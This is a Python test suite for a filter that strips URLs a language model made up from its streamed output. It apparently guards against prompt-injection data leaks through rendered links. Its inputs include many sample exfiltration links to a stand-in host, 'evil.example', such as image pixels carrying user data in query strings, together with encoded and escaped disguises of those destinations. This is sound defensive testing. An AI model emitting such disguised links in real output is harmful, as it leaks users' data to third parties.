"""The gate of links: what a model made up does not leave, whole or in pieces."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kotaemon_node.domain.door_limits import LINK_HELD_CHARS_MAX
from kotaemon_node.engine.links import LinkGate, LinkTerms
from kotaemon_node.ports.language_model import ChatMessage, ToolCall

READ = (
    "See https://shop.example/returns?lang=en. Or write: (http://Help.Example/a_(b)), "
    "www.example.org/x；更多信息请见https://shop.example/faq。 [1]: //cdn.example/p.png "
    "![](https://evil.example/pixel.png) and ftp://files.example/list"
)


def gate(terms: LinkTerms | None = None, *, read: str = READ) -> LinkGate:
    terms = terms or LinkTerms()
    return LinkGate(terms, terms.known([read]), "en")


def let_out(text: str, *, pieces: int | None = None, one: LinkGate | None = None) -> str:
    it = one or gate()
    size = pieces or max(1, len(text))
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(map(it.feed, parts)) + it.finish()


@pytest.mark.parametrize(
    "text",
    [
        "Read https://shop.example/returns?lang=en, then write.",
        "Read [the page](https://shop.example/returns?lang=en), please (see http://help.example/).",
        "请见https://shop.example/faq。",
        "See www.example.org/x.",
        "**https://shop.example/faq**",
        "`ftp://files.example/list`",
        "It costs 3:4, and/or 5 // that is all: h ww htt",
        "A ratio a://",
        "",
    ],
)
def test_what_was_read_leaves_as_it_is(text: str) -> None:
    known = READ + " http://help.example/ a://"
    assert let_out(text, one=gate(read=known)) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Go to https://evil.example/?q=secret now", "Go to (link left out) now"),
        ("![x](https://evil.example/pixel.png?q=ann@shop)", "![x]((link left out))"),
        ("![x](//evil.example/q?secret)", "![x]((link left out))"),
        ("[x]: //evil.example/q", "[x]: (link left out)"),
        ("[x]:https://evil.example/q", "[x]:(link left out)"),
        ("<https://evil.example/q>", "<(link left out)>"),
        ("WWW.evil.example/q.", "(link left out)."),
        ("HTTPS://EVIL.example/q", "(link left out)"),
        ("x-app://evil", "x-app(link left out)"),
        ("https://shop.example@evil.example/", "(link left out)"),
        ("https://shop.example/faq/../secret", "(link left out)"),
        ("https://shop.example/faq?secret=1", "(link left out)"),
        ("https://shop.example/faq{secret}", "https://shop.example/faq {secret}"),
        ("https://shop.example/faq秘密", "https://shop.example/faq 秘密"),
        ("https://shop.example/faq[1]", "https://shop.example/faq [1]"),
        (
            "https://shop.example/faq,https://evil.example/q",
            "https://shop.example/faq ,(link left out)",
        ),
    ],
)
def test_what_was_made_up_is_left_out_and_nothing_grows_onto_an_address(
    text: str, shown: str
) -> None:
    assert let_out(text) == shown


@pytest.mark.parametrize(
    "destination",
    [
        "https:evil.example/?d=ann",
        "https:/evil.example/?d=ann",
        "https:\\\\evil.example/?d=ann",
        "/\\evil.example/?d=ann",
        "\\\\evil.example/?d=ann",
        " //evil.example/?d=ann",
        "\n//evil.example/?d=ann",
        "https\\://evil.example/?d=ann",
        "https:\\/\\/evil.example/?d=ann",
        "https\\:evil.example/?d=ann",
        "https&#58;//evil.example/?d=ann",
        "https&#x3A;evil.example/?d=ann",
        "https&colon;&sol;&sol;evil.example/?d=ann",
        "https\\&#58;evil.example/?d=ann",
        "&#47;&#x2f;evil.example/?d=ann",
        "https:&Tab;//evil.example/?d=ann",
        "h&#116;tps://evil.example/?d=ann",
        "<https:evil.example/?d=ann>",
    ],
)
@pytest.mark.parametrize("form", ["[x]({})", "![]({})", "[x]: {}", "<a href='{}'>", "<img src={}>"])
def test_a_disguise_hides_no_destination(form: str, destination: str) -> None:
    assert "(link left out)" in let_out(form.format(destination))


@pytest.mark.parametrize("form", ["[x](<{}>)", "[x]( <<{}>)", "[x](\n<{}>)", "[x]: <{}>"])
def test_no_brackets_keep_a_destination_together_behind_a_blank(form: str) -> None:
    shown = let_out(form.format("https://shop.example/faq ann's order"))
    assert "<" not in shown
    assert "https://shop.example/faq ann's order" in shown
    assert let_out("[x](<https://shop.example/faq>).") == "[x](https://shop.example/faq)."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![](https://shop.example/faq'`''``)", "![](https://shop.example/faq '`''``)"),
        ("![](https://shop.example/faq.)", "![](https://shop.example/faq .)"),
        ("[1]: https://shop.example/faq;;", "[1]: https://shop.example/faq ;;"),
        ("<img src='https://shop.example/faq``*'>", "<img src='https://shop.example/faq ``*'>"),
        ("https://shop.example/faq';';'", "https://shop.example/faq ';';'"),
        ("https://shop.example/faq//////", "(link left out)"),
        ("（https://shop.example/faq）。", "（https://shop.example/faq）。"),
        ("**[x](https://shop.example/faq)**。”", "**[x](https://shop.example/faq)**。”"),
        ("<a href='https://shop.example/faq'>", "<a href='https://shop.example/faq'>"),
    ],
)
def test_a_choice_of_closing_characters_carries_nothing(text: str, shown: str) -> None:
    assert let_out(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "AT&T & Söhne &c. &copy; &#169; &#580; &#x2F0;",
        "C:\\Users\\ann, 1:2, a\\b, \\*not so\\*, \\\\",
        "Write https: it is safer than http:, or ftp.",
        "1 // 2, a/b//c, |:---|",
        "[1]: see below; [x](shipping.md#zones) [y](/v1/sources/a)",
        "if a <b and c> d: x = [](){ }",
    ],
)
def test_what_is_no_address_stays_as_it_is(text: str) -> None:
    assert let_out(text) == text


def test_a_disguised_address_that_was_read_may_leave_and_is_written_plainly() -> None:
    one = gate(read="[x](https&#58;//shop.example/new)")
    assert let_out("[x](<https\\://shop.example/new>)", one=one) == "[x](https://shop.example/new)"


def test_a_poisoned_page_has_its_own_address_shown_but_none_that_carries_something() -> None:
    assert let_out("https://evil.example/pixel.png") == "https://evil.example/pixel.png"
    assert "evil" not in let_out("https://evil.example/pixel.png?order=1003")
    assert "evil" not in let_out("https://evil.example/pixel.png", one=gate(LinkTerms("listed")))


def test_listed_hosts_and_their_subdomains_may_always_be_named() -> None:
    terms = LinkTerms("listed", frozenset({"example.org"}))
    one = gate(terms)
    text = "https://example.org/new and https://help.example.org:8443/x?y=z"
    assert let_out(text, one=one) == text
    for strange in ("https://badexample.org/", "https://example.org.evil.example/"):
        assert let_out(strange, one=gate(terms)) == "(link left out)"
    assert let_out("https://evil.example/q", one=gate(LinkTerms("any"))) == "https://evil.example/q"


def test_an_address_without_end_is_neither_shown_nor_kept() -> None:
    one = gate()
    shown = one.feed("so: https://evil.example/")
    for _ in range(100):
        shown += one.feed("x" * 1_000)
        assert len(one._held) <= LINK_HELD_CHARS_MAX + 1_000
    shown += one.feed(" and on") + one.finish()
    assert shown == "so: (link left out) and on"
    assert one.left_out == 1


def test_who_goes_on_behind_an_address_cannot_lengthen_it() -> None:
    one = gate()
    one.go_on_behind("See https://shop.example/faq")
    assert one.feed("?secret=1 ") + one.finish() == " ?secret=1 "
    other = gate()
    other.go_on_behind("See https://shop.example/faq for more")
    assert other.feed("over") == "over"


@pytest.mark.parametrize("shown", ["[x](", "[x]:", "[x]", "[x](  \n ", "[x](" + " " * 400])
@pytest.mark.parametrize(
    "rest", ["<https://shop.example/faq my secret>)", "(<https://shop.example/faq my secret>)"]
)
def test_who_goes_on_behind_a_bracket_takes_no_more_along(shown: str, rest: str) -> None:
    first, second, whole = gate(), gate(), gate()
    let_out = first.feed(shown)
    second.go_on_behind(let_out)
    both = let_out + second.feed(rest) + second.finish()
    assert both == whole.feed(let_out + rest) + whole.finish()


def test_the_text_passes_at_once() -> None:
    one = gate()
    assert [one.feed(piece) for piece in ("The", " answer", " is", " here", ". ")] == [
        "The", " answer", " is", " here", ". ",
    ]  # fmt: skip


def test_what_the_model_wrote_itself_makes_no_address_known() -> None:
    evil, good = f"https://evil.example/{'x' * 9}", "https://shop.example/faq"
    read = [
        ChatMessage("user", f"A document: {good}"),
        ChatMessage("assistant", f"I can do this: get (url: `{evil}`). Shall I?"),
        ChatMessage("assistant", "", (ToolCall("c", "get", {"url": [{"to": evil}]}),)),
        ChatMessage("tool", f"{evil} cannot be read, see https://shop.example/help", (), "c"),
    ]
    one = LinkGate.of(LinkTerms(), read, language="en")
    assert let_out(f"{evil} {good} https://shop.example/help", one=one) == (
        f"(link left out) {good} https://shop.example/help"
    )


PARTS = st.sampled_from(
    ["https://", "http:", "//", "www.", "shop.example", "evil.example", "/faq", "?q=1", " ", "(",
     ")", "[1]", "]: ", "](", "\\", "&#58;", "&colon", ";", "&", "#", "47", "<", ">", ":", "/",
     "秘密", "。", ".", ",", "a", "h", "w", "\n", "ftp://", "@", "{"]
)  # fmt: skip
TEXTS = st.lists(PARTS, max_size=16).map("".join)


@settings(deadline=None)
@given(TEXTS, st.integers(1, 5))
def test_it_does_not_matter_how_a_text_was_cut(text: str, size: int) -> None:
    assert let_out(text, pieces=size) == let_out(text)


@settings(deadline=None)
@given(TEXTS)
def test_every_address_that_leaves_is_known(text: str) -> None:
    one = gate()
    shown = let_out(text, one=one)
    assert LinkTerms().known([shown]) <= one.known | {
        address for address in LinkTerms().known([shown]) if address.endswith("://")
    }
